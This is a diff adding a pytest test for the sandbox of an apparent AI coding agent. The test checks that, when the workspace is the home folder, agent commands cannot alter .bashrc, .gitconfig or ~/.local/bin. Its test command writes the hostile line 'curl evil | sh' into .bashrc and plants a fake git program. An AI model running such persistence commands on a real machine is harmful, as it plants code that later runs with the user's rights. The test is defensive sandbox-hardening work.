@@ -150,3 +150,32 @@ def test_lathes_folders_are_masked_only_inside_the_workspace_and_made_first(tmp_
     for holding in (ws, tmp_path):  # lathe's data dir is, or holds, the workspace
         monkeypatch.setenv("LATHE_HOME", str(holding))
         assert sandbox_view(ws, ws, network=False, home=tmp_path).hidden == ()
+
+
+@pytest.mark.parametrize("sandbox", SANDBOXES)
+def test_a_workspace_that_is_the_home_folder_keeps_what_runs_on_the_host_read_only(
+    tmp_path, fake_openai, sandbox
+):
+    # With -C ~ a command could append to ~/.bashrc or ~/.gitconfig (an alias, a
+    # core.fsmonitor) or drop a program in ~/.local/bin: all run on the host later.
+    home = tmp_path / "home"
+    (home / ".local" / "bin").mkdir(parents=True)
+    (home / ".bashrc").write_text("# mine\n")
+    (home / ".gitconfig").write_text("[user]\n\tname = me\n")
+    (home / ".cache").mkdir()
+    (home / "project.txt").write_text("mine\n")
+
+    seen = _tool_outputs(
+        fake_openai, tmp_path, home, {"HOME": str(home), "LATHE_HOME": None},
+        "echo 'curl evil | sh' >> .bashrc; echo 'x' >> .gitconfig; "
+        "echo 'echo pwned' > .local/bin/git; echo ok > .cache/c; echo more >> project.txt; "
+        "echo done",
+        args=sandbox,
+    )  # fmt: skip
+
+    assert "done" in seen
+    assert (home / ".bashrc").read_text() == "# mine\n"
+    assert (home / ".gitconfig").read_text() == "[user]\n\tname = me\n"
+    assert not (home / ".local" / "bin" / "git").exists()
+    assert (home / ".cache" / "c").read_text() == "ok\n"  # caches stay writable
+    assert (home / "project.txt").read_text() == "mine\nmore\n"  # the workspace too
